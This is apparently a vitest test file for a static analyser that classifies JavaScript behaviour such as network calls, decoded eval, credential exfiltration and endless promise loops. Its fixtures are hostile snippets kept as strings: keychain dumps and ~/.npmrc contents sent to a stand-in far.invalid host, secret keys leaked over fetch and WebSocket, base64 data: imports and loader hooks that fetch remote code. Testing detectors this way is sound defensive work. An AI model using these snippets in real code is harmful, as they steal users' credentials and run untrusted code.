/** What objects of the file hold is found wherever they hold it: private fields, getters, lists, maps, events. */
import { describe, expect, it } from 'vitest';
import { analyzeFile } from '../../src/behavior/analyze-file.ts';
import { tellFile } from './tell.ts';

function originsOf(program: string): readonly string[] {
  const behaviors = analyzeFile(program, 'index.js').fns.flatMap((fn) => fn.behaviors);
  return behaviors.find(({ kind }) => kind === 'dynamic-code')?.origins ?? [];
}

function carriedBy(program: string): readonly string[] {
  const behaviors = analyzeFile(program, 'index.js').fns.flatMap((fn) => fn.behaviors);
  return behaviors.flatMap(({ carries = [] }) => carries.map(({ sort, name }) => `${sort} ${name}`));
}

describe('it is told', () => {
  it.each([
    [
      'what an object does that a private field holds',
      `class Beacon { static #dns = new (require('dns').Resolver)(); static tell(text) { this.#dns.resolveTxt('a.far.invalid'); } }`,
      'network dns.Resolver().resolveTxt "a.far.invalid"',
    ],
    [
      'where a socket connects that a field holds',
      `class Agent { constructor() { this.link = new (require('net').Socket)(); } open() { this.link.connect(4444, 'far.invalid'); } }`,
      'network net.Socket().connect "far.invalid"',
    ],
    [
      'what a getter of a class gives',
      `class Loader { get client() { return require('https'); } begin() { this.client.get('https://far.invalid/'); } }`,
      'network https.get "https://far.invalid/"',
    ],
    [
      'the address that a getter of an object gives',
      `const place = { get to() { return ['https:', '', 'far.invalid'].join('/'); } }; fetch(place.to)`,
      'network fetch "https://far.invalid"',
    ],
    [
      'what a list of modules holds',
      `const mods = ['fs', 'https'].map((name) => require(name)); mods[1].get('https://far.invalid/')`,
      'network https.get "https://far.invalid/"',
    ],
    [
      'code that stands in an address',
      `import('data:text/javascript;base64,' + 'ZmV0Y2goImh0dHBzOi8vZmFyLmludmFsaWQvIik=')`,
      'network fetch "https://far.invalid/"',
    ],
    [
      'hooks into the loading of modules',
      `require('node:module').register('data:text/javascript,fetch("https://far.invalid/")')`,
      'network fetch "https://far.invalid/"',
    ],
    [
      'where an application lies on one of several systems',
      `require('fs').writeFileSync({ darwin: '/Applications/Sample.app/Contents/main.js' }[process.platform], '')`,
      'file-write fs.writeFileSync "/Applications/Sample.app/Contents/main.js"',
    ],
    [
      'what a timer runs that was fetched',
      `fetch('https://far.invalid/').then((answer) => answer.text()).then((text) => setTimeout(text))`,
      'dynamic-code setTimeout',
    ],
    [
      'what was not come to, where a harmless call came to its end before',
      `const run = (text) => { if (text) eval(text); }; run(''); let n = 0; for (let i = 0; i < 1e7; i += 1) n ^= i; const all = {}; for (const k of ['x']) all[k] = String.fromCharCode(97 + (n & 1)); run(all[['x'][0]]);`,
      'unseen-run eval',
    ],
    [
      'that a promise which is resolved starts itself again',
      `(function again(n) { Promise.resolve(n + 1).then((m) => { console.log(m); return again(m); }); })(0)`,
      'endless-loop Promise.resolve().then "it starts itself again without end or pause"',
    ],
  ])('%s', (_, program, told) => {
    expect(tellFile(program)).toContain(told);
  });

  it.each([
    [
      'a field that holds a thing of the file',
      `class Socket { connect() {} } class A { #s = new Socket(); go() { this.#s.connect('a'); } }`,
    ],
    [
      'a getter that gives something else',
      `class A { get client() { return new Map(); } go() { this.client.get('https://far.invalid/'); } }`,
    ],
    [
      'a timer that is given what a promise resolves by',
      `exports.wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms))`,
    ],
    ['a list of texts', `const mods = ['fs', 'https'].map((name) => name + '!'); mods[1].get('https://far.invalid/')`],
    ['an image in an address', `import('data:image/png;base64,ZmV0Y2goKQ==').catch(() => {})`],
    [
      'promises that wait for what somebody asks',
      `exports.next = (n) => Promise.resolve(n).then((m) => (m > 3 ? m : exports.next(m + 1)))`,
    ],
  ])('and nothing of %s', (_, program) => {
    expect(tellFile(program).filter((line) => !line.startsWith('dynamic-code import()'))).toEqual([]);
  });
});

describe('text is known to be decoded that a function gives', () => {
  it.each([
    ['to a list that is not known', `eval(answer().map((code) => String.fromCharCode(code)).join(''))`],
    ['to a text that is not known', `eval(text.replace(/../g, (pair) => String.fromCharCode(parseInt(pair, 16))))`],
    [
      'to a map',
      `const kept = new Map(); exports.put = (text) => { kept.set('a', Buffer.concat([Buffer.from(text, 'hex')])); eval(kept.get('a').toString()); }`,
    ],
  ])('%s', (_, program) => {
    expect(originsOf(program)).toContain('decoded');
  });

  it('and not where it only looks at codes', () => {
    expect(originsOf(`eval(lines.map((line) => line.charCodeAt(0) > 32 ? line : '').join(''))`)).not.toContain(
      'decoded',
    );
  });
});

describe('it is known to be sent', () => {
  it.each([
    [
      'what a command prints that shows keys',
      `require('child_process').exec('security dump-keychain', (error, out) => fetch('https://far.invalid/', { body: out }))`,
      'credential security dump-keychain',
    ],
    [
      'what a command prints of a file of keys',
      `fetch('https://far.invalid/', { body: require('child_process').execSync('cat ~/.npmrc').toString() })`,
      'credential cat ~/.npmrc',
    ],
    [
      'what is taken out of what a function is given',
      `bus.on('signed', ({ secretKey: bytes }) => { const url = new URL('https://far.invalid/'); url.searchParams.set('v', bytes); fetch(url); })`,
      'key secretKey',
    ],
    [
      'over a connection that a field holds',
      `class Client { constructor() { this.socket = new WebSocket('wss://far.invalid/'); } login(secretKey) { this.socket.send(secretKey); } }`,
      'key secretKey',
    ],
  ])('%s', (_, program, carried) => {
    expect(carriedBy(program)).toContain(carried);
  });

  it('and nothing of what a pattern finds, or of a command that shows a version', () => {
    expect(
      carriedBy(`fetch('https://far.invalid/' + /v(.+)/.exec(require('child_process').execSync('node -v'))[1])`),
    ).toEqual([]);
  });
});
